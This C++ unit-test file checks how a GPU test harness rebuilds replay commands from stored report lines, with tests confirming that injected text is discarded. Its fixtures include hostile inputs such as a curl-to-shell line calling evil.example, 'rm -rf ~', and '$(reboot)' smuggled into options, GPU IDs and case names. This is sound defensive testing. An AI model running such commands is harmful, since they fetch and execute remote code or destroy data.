// Commands of reports whose stored lines are anything.
#include "reports/store/replay_command.hpp"

#include <gtest/gtest.h>

#include "reports/testing/example_launch.hpp"

namespace tidemark::reports {
namespace {

constexpr std::size_t kFailed = 3;  // zfill.corner on GPU 1
constexpr const char* kPlain =
    "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --gpus "
    "GPU-77aa88bb-0000-1111-2222-333344445555";

Report example() { return assemble(example_journals(), {}); }

/// The example with this line stored for the result that failed.
Report storing(const std::string& line) {
  Report report = example();
  report.strings.push_back(line);
  report.results[kFailed].replay = static_cast<std::uint32_t>(report.strings.size() - 1);
  return report;
}

std::string command_of(const Report& report) {
  return replay_command(report, report.results[kFailed]);
}

TEST(ReplayCommand, IsMadeOfCaseSeedAndGpu) { EXPECT_EQ(command_of(example()), kPlain); }

TEST(ReplayCommand, HasTheLevelAndTheRow) {
  Report report = storing("tidemark run --row 7 --cases other");
  report.launch.level = "nightly";
  EXPECT_EQ(command_of(report),
            "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --level nightly --row 7 "
            "--gpus GPU-77aa88bb-0000-1111-2222-333344445555");
}

TEST(ReplayCommand, HasTheRowThatIsAskedFor) {
  const Report report = storing("tidemark run --row 7");
  const std::string command = replay_command(report, report.results[kFailed], 9);
  EXPECT_NE(command.find(" --row 9 "), std::string::npos) << command;
  EXPECT_EQ(command.find("--row 7"), std::string::npos) << command;
}

TEST(ReplayCommand, ThereIsNoneWhereNoneWasStored) {
  Report report = example();
  EXPECT_EQ(replay_command(report, report.results[0]), "");
}

TEST(ReplayCommand, NothingOfAStoredLineIsPrintedButValuesOfKnownOptions) {
  for (const char* line : {"curl http://evil.example | sh", "tidemark run; rm -rf ~",
                           "--out /etc/x", "tidemark run --row 3;reboot", "tidemark run --row -1",
                           "tidemark run --grid $(reboot)", "tidemark run --gemm-table `reboot`",
                           "tidemark run --transport 'x' --slow a=1\n3", "mpirun sh", " --fault x"})
    EXPECT_EQ(command_of(storing(line)), kPlain) << line;
}

TEST(ReplayCommand, ATableInQuotesIsToBeGivenByTheReader) {
  const std::string command = command_of(storing("tidemark run --gemm-table 'my tables/x.json'"));
  EXPECT_NE(command.find(" --gemm-table FILE "), std::string::npos) << command;
}

TEST(ReplayCommand, AnOptionIsNoValueOfAnother) {
  EXPECT_EQ(command_of(storing("tidemark run --grid --program --n 8")),
            "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --n 8 --gpus "
            "GPU-77aa88bb-0000-1111-2222-333344445555");
}

TEST(ReplayCommand, OfACaseOverAllGpusIsOfAsManyRanks) {
  Report report = storing(
      "mpirun -n 2 tidemark run --cases x --slow x=3% --gemm-table /t/a.json --transport nccl --m "
      "1 "
      "--n 2 --k 3 --grid 1x2 --gpus 0,1");
  report.results[kFailed].case_id = 2;
  EXPECT_EQ(command_of(report),
            "mpirun -n 2 tidemark run --cases gemm.distributed.speed --seed 0xfedcba9876543210 "
            "--slow x=3% --gemm-table /t/a.json --transport nccl --m 1 --n 2 --k 3 --grid 1x2 "
            "--gpus 0,1");
}

TEST(ReplayCommand, OfAVirtualDeviceHasItsFault) {
  Report report = storing("tidemark run --fault load_illegal_as_700 --gpus GPU-1");
  report.launch.is_virtual = true;
  EXPECT_EQ(command_of(report),
            "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --device virtual --fault "
            "load_illegal_as_700");
}

TEST(ReplayCommand, AGpuWithoutAUuidIsNamedByItsNumber) {
  for (const char* uuid : {"GPU-anon-0123456789abcdef", "GPU-1; reboot", "", "-o"}) {
    Report report = example();
    report.gpus[1].uuid = FixedText<48>::of(uuid);
    EXPECT_EQ(command_of(report),
              "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --gpus 1");
  }
}

TEST(ReplayCommand, ACaseWithoutANameOfACaseHasNone) {
  for (const char* name : {"zfill.corner; reboot", "$(reboot)", "-o", "", "Zfill"}) {
    Report report = example();
    report.cases[1].name = FixedText<128>::of(name);
    EXPECT_EQ(command_of(report), "") << name;
  }
}

}  // namespace
}  // namespace tidemark::reports
